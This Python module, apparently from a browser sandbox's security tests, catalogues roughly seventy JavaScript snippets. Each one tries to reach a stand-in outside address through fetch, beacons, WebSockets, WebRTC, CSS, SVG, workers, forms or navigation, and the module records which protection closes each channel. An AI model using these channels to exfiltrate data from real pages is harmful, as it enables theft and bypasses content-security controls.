"""Ways in which a script could send something elsewhere, each as a line or two of JavaScript that tries it.

SECURITY.md has the same list as a table, and a test compares the two. In the code, `AWAY` is an address of
another origin that listens and `UDP` a port of it; what connects to either has got out.
"""

from __future__ import annotations

from dataclasses import dataclass

POLICY = "the policy"
TAKEN = "taken away"
GUARD = "the guard"
NAVIGATION = "the guard, where browsers have the Navigation API"
OPEN = "open"


@dataclass(frozen=True)
class Channel:
    """A way out, what closes it, and code that tries it in a page."""

    name: str
    closed_by: str
    code: str
    worker: bool = False
    """Whether it is one in a worker, too."""
    control: bool = True
    """Whether it gets out where nothing holds it; else there is nothing to compare with here."""
    leaves: bool = False
    """Whether it takes the page elsewhere, so that it needs a page of its own."""


def _link(rel: str, more: str = "") -> str:
    return (
        f"const l = document.createElement('link'); l.rel = '{rel}'; "
        f"{more} l.href = AWAY; document.head.append(l);"
    )


def _element(name: str, attribute: str = "src", more: str = "") -> str:
    return (
        f"const e = document.createElement('{name}'); {more} e.{attribute} = AWAY; document.body.append(e);"
    )


def _style(text: str) -> str:
    """A style for an element of its own: a later one must not replace what is not yet on show."""
    return (
        "const s = new CSSStyleSheet(); document.adoptedStyleSheets.push(s); "
        "const e = document.createElement('i'); const own = 'probe' + AWAY.replace(/[^0-9]/g, '');"
        "e.className = own; e.textContent = 'probe'; document.body.append(e);"
        f"const text = ({text}).replaceAll('.probe', '.' + own);"
        "const t = document.createElement('style'); t.textContent = text;"
        "document.head.append(t); try { s.replaceSync(text); } catch {}"
    )


def _svg(inner: str) -> str:
    return (
        "const d = document.createElement('div');"
        f"d.innerHTML = '<svg width=9 height=9>{inner}</svg>'.replaceAll('HERE', AWAY); "
        f"document.body.append(d);"
    )


STUN = """const made = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + UDP }] });
  made.createDataChannel('x'); await made.setLocalDescription(await made.createOffer());"""

CHANNELS = (
    Channel("fetch", POLICY, "await fetch(AWAY, { mode: 'no-cors' })", worker=True),
    Channel(
        "fetch, kept alive", POLICY, "await fetch(AWAY, { mode: 'no-cors', keepalive: true })", worker=True
    ),
    Channel("fetchLater", POLICY, "fetchLater(AWAY, { activateAfter: 0 })"),
    Channel(
        "XMLHttpRequest",
        POLICY,
        "const x = new XMLHttpRequest(); x.open('POST', AWAY); x.send('x');",
        worker=True,
    ),
    Channel("sendBeacon", POLICY, "navigator.sendBeacon(AWAY, 'x')"),
    Channel("WebSocket", POLICY, "new WebSocket(AWAY.replace('http', 'ws'))", worker=True),
    Channel(
        "WebSocketStream",
        TAKEN,
        "new WebSocketStream(AWAY.replace('http', 'ws'))",
        worker=True,
    ),
    Channel("EventSource", POLICY, "new EventSource(AWAY)", worker=True),
    Channel(
        "WebTransport",
        TAKEN,
        "const t = new WebTransport('https://127.0.0.1:' + UDP); await t.ready;",
        worker=True,
    ),
    Channel("WebRTC", TAKEN, STUN),
    Channel("picture", POLICY, "new Image().src = AWAY"),
    Channel(
        "picture set", POLICY, "const i = new Image(); i.srcset = AWAY + ' 1x'; document.body.append(i);"
    ),
    Channel("script", POLICY, _element("script")),
    Channel("module", POLICY, _element("script", more="e.type = 'module';")),
    Channel("import()", POLICY, "await import(AWAY)", worker=True),
    Channel("style sheet", POLICY, _link("stylesheet")),
    Channel("@import", POLICY, _style("'@import \"' + AWAY + '\";'")),
    Channel("url() in a style", POLICY, _style("'.probe { background: url(' + AWAY + ') }'")),
    Channel(
        "url() in a style attribute",
        POLICY,
        "const e = document.createElement('i'); e.textContent = 'x';"
        "e.style.background = 'url(' + AWAY + ')'; document.body.append(e);",
    ),
    Channel(
        "image-set() in a style", POLICY, _style("'.probe { background: image-set(\"' + AWAY + '\" 1x) }'")
    ),
    Channel(
        "mask", POLICY, _style("'.probe { display: block; mask-image: url(' + AWAY + ') }'"), control=False
    ),
    Channel(
        "shape", POLICY, _style("'.probe { float: left; shape-outside: url(' + AWAY + ') }'"), control=False
    ),
    Channel(
        "list marker",
        POLICY,
        _style("'.probe { display: list-item; list-style: url(' + AWAY + ') }'"),
    ),
    Channel(
        "font",
        POLICY,
        _style("'@font-face { font-family: p; src: url(' + AWAY + ') } .probe { font: 9px p }'"),
    ),
    Channel("FontFace", POLICY, "await new FontFace('p', 'url(' + AWAY + ')').load()"),
    Channel("prefetch", POLICY, _link("prefetch")),
    Channel("preload", POLICY, _link("preload", "l.as = 'image';")),
    Channel("modulepreload", POLICY, _link("modulepreload")),
    Channel("worklet", POLICY, "await CSS.paintWorklet.addModule(AWAY)", control=False),
    Channel("audio worklet", POLICY, "await new AudioContext().audioWorklet.addModule(AWAY)", control=False),
    Channel("shared worker", POLICY, "new SharedWorker(AWAY)", control=False),
    Channel("image button", POLICY, _element("input", more="e.type = 'image';")),
    Channel("background attribute", POLICY, _element("table", "background"), control=False),
    Channel(
        "picture source",
        POLICY,
        "const p = document.createElement('picture'); p.innerHTML = '<source><img>'; "
        "p.firstChild.srcset = AWAY; document.body.append(p);",
    ),
    Channel(
        "style sheet in XSLT",
        POLICY,
        "const x = new XSLTProcessor(); x.importStylesheet(new DOMParser().parseFromString("
        '\'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        "<xsl:import href=\"' + AWAY + '\"/></xsl:stylesheet>', 'text/xml'));"
        "x.transformToDocument(document);",
        control=False,
    ),
    Channel(
        "sign-in service",
        POLICY,
        "await navigator.credentials.get({ identity: { providers: [{ configURL: AWAY, clientId: 'x' }] } })",
        control=False,
    ),
    Channel(
        "payment method",
        POLICY,
        "await new PaymentRequest([{ supportedMethods: AWAY }], "
        "{ total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment()",
        control=False,
    ),
    Channel("advertising report", POLICY, "const i = new Image(); i.attributionSrc = AWAY;", control=False),
    Channel(
        "frame with its own content",
        POLICY,
        "const f = document.createElement('iframe'); f.srcdoc = '<img src=\"' + AWAY + '\">'; "
        "document.body.append(f);",
    ),
    Channel(
        "frame that moves on",
        POLICY,
        "const f = document.createElement('iframe'); document.body.append(f); "
        "f.contentWindow.location.href = AWAY;",
    ),
    Channel("icon", POLICY, _link("icon"), control=False),
    Channel("app manifest", POLICY, _link("manifest"), control=False),
    Channel("frame", POLICY, _element("iframe")),
    Channel("object", POLICY, _element("object", "data")),
    Channel("embed", POLICY, _element("embed")),
    Channel("audio", POLICY, _element("audio", more="e.preload = 'auto';")),
    Channel("video", POLICY, _element("video", more="e.preload = 'auto';")),
    Channel("poster", POLICY, _element("video", "poster")),
    Channel(
        "subtitles",
        POLICY,
        "const v = document.createElement('video'), t = document.createElement('track'); "
        "v.crossOrigin = 'anonymous';"
        "t.src = AWAY; t.default = true; v.append(t); document.body.append(v); t.track.mode = 'showing';",
    ),
    Channel("picture in SVG", POLICY, _svg('<image href="HERE" width="9" height="9"/>')),
    Channel("use in SVG", POLICY, _svg('<use href="HERE#a"/>'), control=False),
    Channel(
        "filter in SVG",
        POLICY,
        _svg('<filter id="f"><feImage href="HERE"/></filter><rect filter="url(#f)" width="9" height="9"/>'),
    ),
    Channel("worker", POLICY, "new Worker(AWAY)", control=False),
    Channel(
        "importScripts",
        POLICY,
        "new Worker(URL.createObjectURL(new Blob(['importScripts(' + JSON.stringify(AWAY) + ')'])))",
    ),
    Channel(
        "worker from a blob",
        POLICY,
        "new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(AWAY) + ')'])))",
    ),
    Channel(
        "speculation rules",
        POLICY,
        "const s = document.createElement('script'); s.type = 'speculationrules'; "
        "s.textContent = JSON.stringify("
        "{ prefetch: [{ source: 'list', urls: [AWAY], eagerness: 'immediate' }] }); document.head.append(s);",
    ),
    Channel(
        "form",
        POLICY,
        "const f = document.createElement('form'); f.action = AWAY; f.method = 'post'; "
        "document.body.append(f); f.submit();",
        leaves=True,
    ),
    Channel(
        "ping",
        POLICY,
        "const a = document.createElement('a'); a.href = '#x'; a.ping = AWAY; "
        "document.body.append(a); a.click();",
        leaves=True,
    ),
    Channel("window.open", GUARD, "window.open(AWAY)"),
    Channel(
        "window that moves on",
        GUARD,
        "const w = window.open('about:blank'); w.location.href = AWAY;",
    ),
    Channel(
        "form in a new window",
        POLICY,
        "const f = document.createElement('form'); f.action = AWAY; f.target = '_blank'; "
        "document.body.append(f); f.requestSubmit();",
    ),
    Channel(
        "click on an area by a script",
        GUARD,
        "const a = document.createElement('area'); a.href = AWAY; document.body.append(a); a.click();",
        leaves=True,
    ),
    Channel(
        "click on a link in SVG",
        NAVIGATION,
        _svg('<a href="HERE"><rect width="9" height="9"/></a>')
        + "d.querySelector('a').dispatchEvent(new MouseEvent('click', { bubbles: true }));",
        leaves=True,
    ),
    Channel(
        "click by a script",
        GUARD,
        "const a = document.createElement('a'); a.href = AWAY; document.body.append(a); a.click();",
        leaves=True,
    ),
    Channel(
        "click event by a script",
        NAVIGATION,
        "const a = document.createElement('a'); a.href = AWAY; document.body.append(a); "
        "a.dispatchEvent(new MouseEvent('click'));",
        leaves=True,
    ),
    Channel("location", NAVIGATION, "location.href = AWAY", leaves=True),
    Channel("location.assign", NAVIGATION, "location.assign(AWAY)", leaves=True),
    Channel("navigation.navigate", NAVIGATION, "navigation.navigate(AWAY)", leaves=True),
    Channel("location.replace", NAVIGATION, "location.replace(AWAY)", leaves=True),
    Channel(
        "meta refresh",
        NAVIGATION,
        "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0; "
        "url=' + AWAY; document.head.append(m);",
        leaves=True,
    ),
    Channel("preconnect", OPEN, _link("preconnect"), control=False),
    Channel("dns-prefetch", OPEN, _link("dns-prefetch"), control=False),
    Channel("clicked link", OPEN, "", control=False),
)
